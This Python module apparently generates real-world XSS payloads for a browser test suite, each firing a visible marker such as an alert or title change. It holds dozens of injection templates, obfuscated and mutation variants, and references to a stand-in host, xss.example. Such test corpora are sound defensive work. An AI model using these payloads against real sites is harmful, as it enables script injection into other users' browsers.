"""Real-world XSS payloads for the browser suite; each one, if it ever ran, would do something a test can
see."""
from __future__ import annotations

import base64

# What a payload does when it runs, in turn: a dialog, a print request, a changed title or a global.
ACTIONS = ("alert({m})", "confirm({m})", "prompt({m})", "print()", "document.title={m}", "window.__xss={m}")

# Templates: {JS} is the action with single quotes, {JSQ} the same without any quote, {PJS} the action aimed
# at the parent window (for frames), {ENT} {JS} as decimal character references, {UNI} {JS} with a \\u escape,
# {B64} a base64 HTML page running {JS}, {N} the payload's number.
TEMPLATES = [
    "<script>{JS}</script>",
    "<ScRiPt>{JS}</sCrIpT>",
    "<script src=\"data:text/javascript,{JSQ}\"></script>",
    "<script src=\"https://xss.example/{N}.js\"></script><script>{JS}</script>",
    "<img src=x onerror=\"{JS}\">",
    "<IMG SRC=x OnErRoR={JSQ}>",
    "<svg/onload={JSQ}>",
    "<body onload=\"{JS}\">",
    "<iframe src=\"javascript:{JS}\"></iframe>",
    "<a href=\"javascript:{JS}\">click to confirm your account</a>",
    "<form action=\"javascript:{JS}\"><button>Submit</button></form>",
    "\"><script>{JS}</script>",
    "'><img src=x onerror=\"{JS}\">",
    "\" autofocus onfocus=\"{JS}\" x=\"",
    "' onmouseover='{JSQ}' x='",
    "</textarea><script>{JS}</script>",
    "</title><script>{JS}</script>",
    "</pre><img src=x onerror=\"{JS}\"><pre>",
    "</noscript></style></script><svg onload=\"{JS}\">",
    "<scr\x00ipt>{JS}</scr\x00ipt><img src=x o\x00nerror=\"{JS}\">",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{ENT}\">entities</a>",
    "<img src=x onerror=\"{ENT}\">",
    "<img src=x onerror=\"{UNI}\">",
    "<a href=\"java&#x09;script:{JS}\">tab</a><a href=\" &#14;javascript:{JS}\">control</a>",
    "{{{{7*7}}}} ${{7*7}} {{{{constructor.constructor('{JSQ}')()}}}} ${{{JS}}} #{{{JS}}} <%= {JS} %>",
    "<div style=\"background:url('javascript:{JSQ}')\">css url</div>",
    "<div style=\"width: expression({JS})\">css expression</div>",
    "<style>@import 'javascript:{JSQ}';*{{background:url(\"javascript:{JSQ}\")}}</style>",
    "<link rel=stylesheet href=\"javascript:{JS}\"><link rel=import href=\"data:text/html;base64,{B64}\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:{JS}\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html;base64,{B64}\">",
    "<base href=\"javascript:{JSQ}//\"><base href=\"https://xss.example/\"><a href=\"x\">relative</a>",
    "<iframe srcdoc=\"&lt;script&gt;{PJS}&lt;/script&gt;\"></iframe>",
    "<iframe src=\"data:text/html;base64,{B64}\"></iframe>",
    "<object data=\"javascript:{JS}\"></object><embed src=\"javascript:{JS}\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"{JS}\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=\"{JS}\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror={JSQ}>\">",
    "<noscript><p title=\"</noscript><img src=x onerror={JSQ}>\"></noscript>",
    "<svg><script>{JS}</script></svg>",
    "<svg><a xlink:href=\"javascript:{JS}\"><text x=20 y=20>svg link</text></a></svg>",
    "<svg><animate onbegin=\"{JS}\" attributeName=x dur=1s>",
    "<math href=\"javascript:{JS}\">math link</math>",
    "+ADw-script+AD4-{JS}+ADw-/script+AD4-",
    "<details open ontoggle=\"{JS}\">",
    "<input autofocus onfocus=\"{JS}\"><select autofocus onfocus=\"{JS}\"></select>",
    "<video><source onerror=\"{JS}\"></video><audio src=x onerror=\"{JS}\">",
    "<marquee onstart=\"{JS}\">marquee</marquee>",
    "<xss id=x tabindex=1 onfocus=\"{JS}\" autofocus>custom element</xss>",
    "--><script>{JS}</script><!--",
    "<!--<img src=\"--><img src=x onerror=\"{JS}\">\">",
    "<img \"\"\"><script>{JS}</script>\">",
    "<img src=`x` onerror=\"{JS}\"",
    "<a href=\"data:text/html;base64,{B64}\">data link</a>",
    ("jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={JSQ} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
     "</scRipt/--!>\\x3csVg/<sVg/oNloAd={JSQ}//>\\x3e"),
    "\\u003cscript\\u003e{JS}\\u003c/script\\u003e</script><script>{JS}</script>",
    "<body onpageshow=\"{JS}\">",
    "<img src=\"https://xss.example/pixel-{N}.gif\" alt=\"tracking pixel\">",
]


def _entities(text: str) -> str:
    return "".join(f"&#{ord(c)};" for c in text)


def _payload(n: int, template: str) -> str:
    action = ACTIONS[n % len(ACTIONS)]
    js = action.format(m=f"'XSS-{n}'")
    quoteless = action.format(m=f"/XSS-{n}/.source")
    page = f"<script>{js}</script><img src=x onerror=\"{js}\">"
    return template.format(
        JS=js, JSQ=quoteless, PJS=f"parent.{js}", ENT=_entities(js), UNI=f"\\u{ord(js[0]):04x}{js[1:]}",
        B64=base64.b64encode(page.encode()).decode(), N=n)


PAYLOADS: list[str] = [_payload(n, t) for n, t in enumerate(TEMPLATES, start=1)]
MARKERS: list[str] = [f"XSS-{n}" for n in range(1, len(PAYLOADS) + 1)]
